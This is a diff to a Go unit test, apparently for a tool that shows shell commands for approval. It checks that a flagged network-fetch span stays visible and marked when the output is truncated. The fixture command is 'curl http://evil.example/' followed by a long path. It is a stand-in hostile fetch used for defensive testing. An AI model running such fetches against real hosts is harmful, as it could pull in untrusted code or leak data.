@@ -390,13 +390,13 @@ func TestTruncation(t *testing.T) {
 // B-R5.2a: what a reason points at is on the first page wherever it stands, marked and with what is
 // around it.
 func TestDangerIsNeverElided(t *testing.T) {
-	const danger = "curl http://evil.example/x"
+	danger := "curl http://evil.example/" + strings.Repeat("longpath/", 60) // longer than the context of its ends
 	for _, at := range []int{0, 3000, 9000} {
 		command := strings.Repeat("abcdefgh ", at/9) + danger + strings.Repeat(" tail", 1000)
 		start := strings.Index(command, danger)
 		plan := fullPlan(command)
 		plan["reasons"] = []any{map[string]any{"rule": "net", "verdict": "ask", "message": "m", "span": []any{start, start + len(danger)}}}
-		p := approval.Render(spell(t, plan), approval.RenderOptions{Width: 200})
+		p := approval.Render(spell(t, plan), approval.RenderOptions{Width: 2000})
 		if !p.Truncated || !strings.Contains(p.Text(), "⟪"+danger+"⟫") {
 			t.Errorf("at %d:\n%s", at, p.Text())
 		}
